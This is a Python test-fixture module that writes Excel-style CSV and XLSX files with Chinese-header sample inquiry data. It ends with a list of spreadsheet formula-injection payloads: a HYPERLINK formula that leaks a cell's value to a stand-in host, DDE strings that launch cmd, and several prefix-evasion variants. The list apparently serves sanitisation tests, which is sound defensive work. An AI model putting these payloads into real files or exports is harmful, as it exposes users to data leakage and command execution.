"""Real input files, built the way Excel and the platforms save them."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path

CHINESE_HEADER = ["公司名称", "联系人", "邮箱", "公司网址", "电话", "国家/地区", "询盘内容"]
CHINESE_ROWS = [
    ["深圳清水环保", "王伟", "wang@qingshui-env.cn", "www.qingshui-env.cn", "+86 755 1234 5678",
     "中国", "我们需要紫外线杀菌灯用于污水处理"],
    ["AquaTech GmbH", "Juergen Gross", "j.gross@aquatech.de", "https://aquatech.de",
     "+49 30 123456", "德国", "UV lamps for water treatment, 500 pcs"],
    ["Fake Trading", "Bob", "bob@fake.example", "", "", "美国", "price?"],
]  # fmt: skip


def csv_text(rows: Sequence[Sequence[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def write_csv(
    path: Path, rows: Sequence[Sequence[str]], *, encoding: str, delimiter: str = ","
) -> Path:
    """A CSV as Excel writes it: CRLF lines; ``utf-8-sig`` and ``utf-16`` carry a BOM."""
    path.write_bytes(csv_text(rows, delimiter).encode(encoding))
    return path


def write_xlsx(path: Path, sheets: dict[str, Sequence[Sequence[object]]]) -> Path:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(list(row))
    workbook.save(path)
    return path


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred\x1b[0m =2",
    "＝1+1",
]
